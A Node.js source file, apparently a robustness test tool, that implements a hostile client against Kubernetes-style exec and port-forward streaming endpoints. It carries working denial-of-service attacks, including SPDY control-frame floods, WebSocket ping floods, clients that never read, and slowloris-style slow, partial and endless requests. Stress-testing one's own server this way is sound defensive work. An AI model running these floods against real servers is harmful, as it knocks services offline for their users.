// SPDX-License-Identifier: Apache-2.0
// A hostile client of the streaming server: valid URLs, and then anything at any rate, without reading an answer.
//
//   node hostile-client.js ATTACK URL…
//
// It attacks until it is killed. Each line of its output is the number of connections that it has made, of those that the server
// has closed, and of the bytes that it has sent: "MADE CLOSED BYTES".
'use strict';
const net = require('net');
const {openSpdy, openWebSocket} = require('./streams');

const PIECE_BYTES = 64 << 10;
const count = {made: 0, closed: 0, bytes: 0};

// What streams.js needs of a node: this process runs in the node's network.
const here = {
    connect: (host, port) => new Promise((resolve, reject) => {
        const socket = net.connect(port, host, () => resolve(socket));
        socket.on('error', reject);
    }),
};

function track(socket) {
    count.made++;
    socket.on('error', () => {});
    socket.on('close', () => { count.closed++; });
    return socket;
}

// Sends pieces without end, as fast as the server takes them, and reads nothing.
function flood(socket, nextPiece) {
    socket.pause();
    const more = () => {
        while (socket.writable) {
            const piece = nextPiece();
            count.bytes += piece.length;
            if (!socket.write(piece))
                return;
        }
    };
    socket.on('drain', more);
    more();
}

const repeated = (frame) => Buffer.concat(Array(Math.max(1, Math.floor(PIECE_BYTES / frame.length))).fill(frame));
const always = (frame) => {
    const piece = repeated(frame);
    return () => piece;
};

const SYN_STREAM = 1, SYN_REPLY = 2, RST_STREAM = 3, SETTINGS = 4, PING = 6, HEADERS = 8, WINDOW_UPDATE = 9;
function control(type, ...words) {
    const bytes = Buffer.alloc(8 + 4 * words.length);
    [0x80030000 | type, 4 * words.length, ...words].forEach((word, i) => bytes.writeUInt32BE(word >>> 0, 4 * i));
    return bytes;
}

// Opens the streams of an exec, so that its command runs, and then floods.
const spdy = (nextPiece) => async (url) => {
    const {spdy: connection, socket} = await openSpdy(here, url, ['v4.channel.k8s.io']);
    track(socket);
    for (const streamType of ['error', 'stdin', 'stdout'])
        connection.open({streamType});
    flood(socket, nextPiece);
};

function masked(opcode, length) {
    const frame = Buffer.alloc(6 + length, 0x55);
    frame[0] = 128 | opcode;
    frame[1] = 128 | length;
    return frame;
}

const webSocket = (nextPiece, protocol = 'v5.channel.k8s.io') => async (url) => {
    const {socket} = await openWebSocket(here, url, [protocol]);
    flood(track(socket.socket), nextPiece);
};

// Many connections to the server of the URL that are never a request.
const crowd = (n, speak) => async (url) => {
    const {hostname, port} = new URL(url);
    for (let i = 0; i < n; i++) {
        const socket = track(await here.connect(hostname, Number(port)));
        speak(socket, url);
    }
};

// A head that goes on, byte by byte.
function drip(socket, url) {
    socket.write(`GET ${new URL(url).pathname} HTTP/1.1\r\nHost: x\r\n`);
    const timer = setInterval(() => socket.write('X'), 1000);
    socket.on('close', () => clearInterval(timer));
}

let opened = 0;
const attacks = {
    'spdy-pings': spdy(always(control(PING, 1))),
    'spdy-windows': spdy(always(control(WINDOW_UPDATE, 5, 1))),
    'spdy-settings': spdy(always(control(SETTINGS, 1, 7, 0x7fffffff))),
    'spdy-resets': spdy(always(control(RST_STREAM, 99, 5))),
    'spdy-replies': spdy(always(Buffer.concat([control(SYN_REPLY, 5), control(HEADERS, 5)]))),
    // Streams that nobody asked for, each with a number of its own.
    'spdy-streams': spdy(() => Buffer.concat(Array.from({length: 1000}, () =>
        control(SYN_STREAM, 101 + 2 * opened++, 0, 0)))),
    'websocket-pings': webSocket(always(masked(9, 125))),
    'websocket-empty-messages': webSocket(always(masked(2, 0))),
    'websocket-unknown-channels': webSocket(always(masked(2, 100))),
    'tunnel-pings': webSocket(always(masked(9, 125)), 'SPDY/3.1+portforward.k8s.io'),
    'never-reads': async (url) => {
        const {socket} = await openWebSocket(here, url, ['v5.channel.k8s.io']);
        track(socket.socket).pause();
        count.bytes++;
    },
    'idle-connections': crowd(150, () => { count.bytes++; }),
    'half-requests': crowd(150, (socket, url) => {
        socket.write(`GET ${new URL(url).pathname} HT`);
        count.bytes++;
    }),
    'slow-requests': crowd(150, (socket, url) => {
        drip(socket, url);
        count.bytes++;
    }),
    'long-requests': crowd(150, (socket) => flood(socket, always(Buffer.from('X-Header: value\r\n')))),
};

async function main([name, ...urls]) {
    setInterval(() => process.stdout.write(`${count.made} ${count.closed} ${count.bytes}\n`), 200);
    await Promise.all(urls.map((url) => attacks[name](url).catch(() => { count.closed++; })));
}

if (require.main === module)
    main(process.argv.slice(2));
module.exports = {attacks: Object.keys(attacks)};
